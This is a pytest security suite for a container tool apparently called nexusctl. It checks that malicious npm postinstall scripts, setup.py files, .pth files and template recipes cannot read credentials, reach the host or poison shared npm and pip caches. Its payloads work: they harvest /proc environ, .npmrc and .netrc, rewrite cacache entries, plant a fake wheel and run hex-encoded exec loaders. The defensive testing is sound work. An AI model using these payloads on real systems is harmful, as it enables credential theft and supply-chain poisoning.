"""What a package runs when it is installed gets nothing of the user's and leaves nothing for other stacks."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from nexusctl.engine.docker.client.client import Wire
from nexusctl.engine.docker.exec.exec import run as run_inside
from nexusctl.engine.docker.images.builder import cache_name
from nexusctl.errors import EngineError
from tests import prestarted
from tests.attacks.test_binds import containers_of
from tests.packages.indexes import PASSWORD, TOKEN, Index, npm_archive, open_index, packument, wheel

pytestmark = pytest.mark.engine

# What it finds goes into the image, for the test to look at.
LOOT = r"""
const fs = require("fs"), net = require("net"), children = require("child_process");
const sh = line => { try { return children.execSync(line, {encoding: "latin1", stdio: ["ignore", "pipe", "ignore"]}); }
  catch (error) { return String(error.stdout || ""); } };
const loot = sh("env; cat /proc/*/environ; cat ~/.npmrc /root/.npmrc; find /dev/nexusctl /tmp -type f -size -100k"
  + " -exec cat {} +; cat /proc/mounts; npm config ls -l");
const caches = sh("find / -xdev -name _cacache; find /dev /tmp -name _cacache").split("\n").filter(Boolean);
caches.push((process.env.npm_config_cache || "/nowhere") + "/_cacache");
const done = reached => fs.writeFileSync("/loot.json", JSON.stringify({loot, caches, reached}));
const socket = net.connect(PORT, "127.0.0.1", () => { done(true); socket.destroy(); });
socket.on("error", () => done(false));
"""
# It puts what the index answered for itself a second time into every cache that it finds: under the other package's
# address, with another content, as fresh for a year.
POISON = r"""
const cacache = require(children.execSync("dirname $(dirname $(readlink -f $(command -v npm)))").toString().trim()
  + "/node_modules/cacache");
const poison = async cache => {
  const entries = Object.values(await cacache.ls(cache));
  for (const [evil, good, data] of ANSWERS) for (const {key, metadata} of entries.filter(e => e.key.endsWith(evil))) {
    const url = metadata.url.replace(evil, good), date = new Date().toUTCString();
    const resHeaders = {...metadata.resHeaders, date, "cache-control": "public, max-age=31536000"};
    delete resHeaders["content-length"];
    await cacache.put(cache, key.replace(evil, good), Buffer.from(data, "base64"),
      {metadata: {...metadata, url, time: Date.now(), resHeaders}});
  }
};
for (const cache of caches) poison(cache).catch(() => undefined);
"""
STEAL = """
import glob, json, os, socket, subprocess, sys
def read(path):
    try:
        return open(path, "rb").read().decode("latin1")
    except OSError:
        return ""
files = [*glob.glob("/proc/*/environ"), "/root/.npmrc", "/root/.netrc", "/proc/mounts"]
files += [os.path.join(top, name) for top, _, names in os.walk("/dev/nexusctl") for name in names]
loot = json.dumps(dict(os.environ)) + "".join(map(read, files))
try:
    socket.create_connection(("127.0.0.1", PORT), 2).close()
    reached = True
except OSError:
    reached = False
json.dump({"loot": loot, "caches": [], "reached": reached}, open("/loot.json", "w"))
"""
# A wheel that pip itself has built from source lies in its cache, and is taken without a look at the index.
POISON_PIP = """
import base64, os, sys
sys.path.insert(0, "/usr/lib/python3/dist-packages")
from pip._internal.cache import SimpleWheelCache
from pip._internal.models.format_control import FormatControl
from pip._internal.models.link import Link
caches = {os.environ.get("PIP_CACHE_DIR", "/nowhere"), "/dev/nexusctl/cache/pip", "/root/.cache/pip"}
for cache in caches:
    folder = SimpleWheelCache(cache, FormatControl()).get_path_for_link(Link(LINK))
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/good-1.0.0-py3-none-any.whl", "wb").write(base64.b64decode(FAKE))
    except OSError:
        pass
"""
SETUP = "from setuptools import setup\nsetup(name=NAME, version='1.0.0', py_modules=[NAME])\n"


class Lab:
    """Stacks whose packages come from an index of the test."""

    def __init__(self, wire: Wire, folder: Path, stack: str, index: Index) -> None:
        self.wire, self.folder, self.stack, self.index = wire, folder, stack, index
        self.made: list[str] = []
        (folder / ".npmrc").write_text(index.npmrc())
        self.env = {
            **{name: value for name, value in os.environ.items() if name != "PIP_FIND_LINKS"},
            "HOME": str(folder),
            "PIP_INDEX_URL": index.simple(),
            "PIP_TRUSTED_HOST": index.host,
            "NO_PROXY": index.host,
        }

    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "nexusctl", *arguments]
        return prestarted.run(command, cwd=self.folder, capture_output=True, text=True, check=False, env=self.env)

    def apply(self, name: str, template: str, packages: str) -> subprocess.CompletedProcess[str]:
        """A working folder that nobody has makes an image that nobody has."""
        stack = f"{self.stack}{name}"
        file = self.folder / f"{stack}.yaml"
        box = f"{{template: {template}, packages: {packages}, command: [sleep, infinity], working_dir: /{stack}}}"
        file.write_text(f"name: {stack}\nsandboxes:\n  box: {box}\n")
        self.made.append(stack)
        return self.run("apply", "--yes", "-f", str(file))

    def inside(self, name: str, *command: str) -> str:
        (container,) = containers_of(self.wire, f"{self.stack}{name}")
        return run_inside(self.wire, container, command, working_dir=f"/{self.stack}{name}").output

    def loot(self, name: str) -> dict[str, object]:
        found: dict[str, object] = json.loads(self.inside(name, "cat", "/loot.json"))
        return found

    def close(self) -> None:
        for stack in self.made:
            used = [self.wire.get(f"/containers/{one}/json")["Image"] for one in containers_of(self.wire, stack)]
            self.run("destroy", "--yes", "--stack", stack)
            for image in used:
                # It can go with another one meanwhile, which the engine tells in more than one way.
                with contextlib.suppress(EngineError):
                    self.wire.delete(f"/images/{image}", {"force": True})


@pytest.fixture
def lab(wire: Wire, tmp_path: Path) -> Iterator[Lab]:
    """With an index on this machine itself, which is out of a private network's reach and asks for a password."""
    with open_index(guarded=True) as index:
        made = Lab(wire, tmp_path, f"builders-{uuid.uuid4().hex[:8]}", index)
        yield made
        made.close()


def fake_answers(index: Index) -> str:
    manifest = {"name": "good", "version": "1.0.0"}
    archive = npm_archive(manifest, {"index.js": "module.exports = 'fake'"})
    told = json.dumps(packument(index.url, manifest, archive)).encode()
    answers = [("/evil", "/good", told), ("/evil/-/evil-1.0.0.tgz", "/good/-/good-1.0.0.tgz", archive)]
    return json.dumps([(evil, good, encode(data)) for evil, good, data in answers])


def encode(data: bytes) -> str:
    return base64.b64encode(data).decode()


def script(index: Index, *parts: str) -> Mapping[str, str]:
    text = "".join(parts).replace("PORT", str(index.port)).replace("ANSWERS", fake_answers(index))
    return {"index.js": "", "evil.js": text}


def require_no_loot(lab: Lab) -> dict[str, object]:
    found = lab.loot("a")
    # Not the text itself, which is long and may be anything.
    assert [word for word in (TOKEN, PASSWORD) if word in str(found["loot"])] == []
    assert found["reached"] is False
    return found


def test_a_postinstall_gets_no_token_and_does_not_reach_this_machine(lab: Lab, node_image: str) -> None:
    lab.index.add_npm("evil", script(lab.index, LOOT), scripts={"postinstall": "node evil.js"})
    done = lab.apply("a", "node", "[evil]")
    assert done.returncode == 0, done.stderr
    assert "/evil/-/evil-1.0.0.tgz" in lab.index.asked, "it came with the token"
    found = require_no_loot(lab)
    assert str(lab.index.port) in str(found["loot"]), "the index itself is no secret, and stays the one that counts"


def test_what_a_postinstall_plants_in_a_cache_no_other_stack_gets(lab: Lab, node_image: str) -> None:
    lab.index.add_npm("evil", script(lab.index, LOOT, POISON), scripts={"postinstall": "node evil.js"})
    lab.index.add_npm("good", {"index.js": "module.exports = 'genuine'"})
    done = lab.apply("a", "node", "[evil]")
    assert done.returncode == 0, done.stderr
    assert lab.inside("a", "ls", "/loot.json").strip() == "/loot.json", "the script has run"
    done = lab.apply("b", "node", "[good]")
    assert done.returncode == 0, done.stderr
    assert lab.inside("b", "node", "-p", "require('good')").strip() == "genuine"


def test_no_sandbox_gets_a_cache_as_a_volume(lab: Lab, node_image: str) -> None:
    cache = cache_name("npm", lab.wire.get(f"/images/{node_image}/json"))
    lab.index.add_npm("good", {})
    assert lab.apply("a", "node", "[good]").returncode == 0
    assert cache in {volume["Name"] for volume in lab.wire.get("/volumes")["Volumes"]}
    file = lab.folder / "taker.yaml"
    box = f"{{image: {node_image}, command: [sleep, infinity], volumes: ['taken:/taken']}}"
    file.write_text(f"name: {lab.stack}b\nvolumes: {{taken: {{external: {cache}}}}}\nsandboxes: {{box: {box}}}\n")
    done = lab.run("apply", "--yes", "-f", str(file))
    assert done.returncode == 1
    assert f"the volume {cache}, which the stack file calls taken, is nexusctl's own" in done.stderr
    assert containers_of(lab.wire, f"{lab.stack}b") == []


def test_what_an_archive_is_compared_with_is_what_the_index_and_the_file_say(lab: Lab, python_image: str) -> None:
    lab.index.add_wheel("good", "WHICH = 'genuine'\n")
    (file,) = lab.index.pip
    digest = hashlib.sha256(lab.index.pip[file]).hexdigest()
    (lab.folder / "requirements.txt").write_text(f"good==1.0.0 --hash=sha256:{digest}\n")
    lab.index.told[file] = digest
    asked = lab.apply("a", "python", "{pip: {from: requirements.txt}}")
    assert asked.returncode == 0, asked.stderr
    lab.index.pip[file] = wheel("good", "WHICH = 'altered'\n", {})
    by_index = lab.apply("b", "python", "[good]")
    assert by_index.returncode == 1
    assert "DO NOT MATCH THE HASHES" in by_index.stderr
    assert "what the index has is not what" in by_index.stderr
    del lab.index.told[file]
    by_file = lab.apply("c", "python", "{pip: {from: requirements.txt}}")
    assert by_file.returncode == 1
    assert "DO NOT MATCH THE HASHES" in by_file.stderr


def test_a_setup_py_gets_no_password_and_does_not_reach_this_machine(lab: Lab, python_image: str) -> None:
    lab.index.add_source("evil", STEAL.replace("PORT", str(lab.index.port)) + SETUP.replace("NAME", "'evil'"))
    done = lab.apply("a", "python", "[evil]")
    assert done.returncode == 0, done.stderr
    assert "/files/evil-1.0.0.tar.gz" in lab.index.asked, "it came with the password"
    require_no_loot(lab)


def test_what_a_setup_py_plants_in_a_cache_no_other_stack_gets(lab: Lab, python_image: str) -> None:
    lab.index.add_source("good", SETUP.replace("NAME", "'good'"), "WHICH = 'genuine'\n")
    listed = (lab.index.answer("/simple/good/") or b"").decode()
    link = lab.index.url + listed.partition('href="')[2].partition('"')[0]
    fake = encode(wheel("good", "WHICH = 'fake'\n", {}))
    poison = POISON_PIP.replace("LINK", repr(link)).replace("FAKE", repr(fake))
    lab.index.add_source("evil", poison + SETUP.replace("NAME", "'evil'"))
    done = lab.apply("a", "python", "[evil]")
    assert done.returncode == 0, done.stderr
    done = lab.apply("b", "python", "[good]")
    assert done.returncode == 0, done.stderr
    assert lab.inside("b", "python3", "-c", "import good; print(good.WHICH)").strip() == "genuine"


def test_what_a_source_needs_comes_with_the_password_though_it_is_built_without(lab: Lab, python_image: str) -> None:
    needs = "from setuptools import setup\nsetup(name='outer', version='1.0.0', py_modules=['outer'], install_requires="
    lab.index.add_source("outer", f"{needs}['middle>=1', 'inner<2'])\n", "import inner, middle\n")
    lab.index.add_source("middle", f"{needs.replace('outer', 'middle')}['inner'])\n")
    lab.index.add_wheel("inner", "")
    done = lab.apply("a", "python", "[outer]")
    assert done.returncode == 0, done.stderr
    assert lab.inside("a", "python3", "-c", "import outer; print('loaded')").strip() == "loaded"


def test_the_recipe_of_a_template_that_is_not_our_own_gets_no_token(lab: Lab, base_image: str) -> None:
    steal = STEAL.replace("PORT", str(lab.index.port)).encode().hex()
    template = {
        "name": "mine",
        "description": "Somebody's",
        "image": f"nexusctl-test.invalid/{lab.stack}:1",
        "bootstrap": {
            "from": "python",
            "run": f"""python3 -c "exec(bytes.fromhex('{steal}').decode(), {{}})" """,
            "command": ["sleep", "infinity"],
        },
    }
    (lab.folder / "mine.yaml").write_text(json.dumps(template))
    done = lab.apply("a", "./mine.yaml", "[]")
    assert done.returncode == 0, done.stderr
    require_no_loot(lab)


def test_code_that_a_wheel_lays_beside_python_does_not_run_where_the_password_is(lab: Lab, python_image: str) -> None:
    """A `.pth` runs with every Python that starts afterwards, and so would the manager's answer to what is there."""
    steal = STEAL.replace("PORT", str(lab.index.port)).encode().hex()
    more = {"evil.pth": f"import builtins; exec(bytes.fromhex('{steal}').decode(), {{}})\n"}
    lab.index.add_wheel("evil", "", more)
    done = lab.apply("a", "python", "[evil]")
    assert done.returncode == 0, done.stderr
    require_no_loot(lab)
